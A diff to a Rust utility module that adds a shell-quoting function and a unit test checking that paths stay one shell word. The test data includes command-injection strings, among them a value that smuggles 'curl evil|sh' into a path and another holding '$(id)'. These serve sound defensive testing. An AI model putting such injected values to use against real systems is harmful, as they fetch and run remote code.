@@ -34,6 +34,15 @@ pub fn count(n: usize, noun: &str) -> String {
     }
 }
 
+/// A text of the target's as one word of a shell's command line, which is pasted by somebody who may be root.
+pub fn shell_word(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c);
+    match !text.is_empty() && text.chars().all(is_plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -61,5 +70,17 @@ mod tests {
         }
         assert_eq!(count(1, "worker"), "1 worker");
         assert_eq!(count(0, "worker"), "0 workers");
+    }
+
+    #[test]
+    fn what_a_target_names_stays_one_word() {
+        for (text, want) in [
+            ("/run/api.sock", "/run/api.sock"),
+            ("", "''"),
+            ("/tmp/x;curl evil|sh", "'/tmp/x;curl evil|sh'"),
+            ("/tmp/it's $(id)", r"'/tmp/it'\''s $(id)'"),
+        ] {
+            assert_eq!(shell_word(text), want);
+        }
     }
 }
